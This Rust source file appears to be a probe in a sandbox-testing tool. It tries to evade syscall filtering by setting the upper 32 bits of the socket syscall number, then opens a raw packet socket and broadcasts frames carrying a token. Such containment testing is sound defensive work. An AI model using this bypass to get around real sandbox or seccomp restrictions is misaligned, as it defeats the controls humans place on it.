//! Does junk in the upper half of a system call's number hide it?

use crate::attempt::{Attempt, Control, Severity};
use crate::field::Field;
use crate::link;
use crate::sys::{self, Arg};
use crate::token::Token;
use crate::tried::{NotApplicable, Tried};

pub(super) const ATTEMPT: Attempt = Attempt {
    id: "high-bits-of-number",
    class: "families",
    severity: Severity::Critical,
    control: Control::Perhaps("not every kernel ignores the upper half"),
    about: "Opens a packet socket by a number whose upper 32 bits are set, and writes frames.",
    make,
    ..Attempt::USUAL
};

fn make(_: &Field, token: &Token, tried: &mut Tried) -> Result<(), NotApplicable> {
    let number = libc::SYS_socket | 1 << 32;
    let numbers = [libc::AF_PACKET, libc::SOCK_RAW, 0].map(|number| Arg::Number(number as u64));
    let Some(socket) = tried.call("socket", sys::call(number, &mut { numbers }).and_then(sys::owned)) else {
        return Ok(());
    };
    link::transmit_on(&socket, tried, |link| link::ethernet(link::EVERYBODY, link.mac, 0x88b5, token.bytes()));
    Ok(())
}
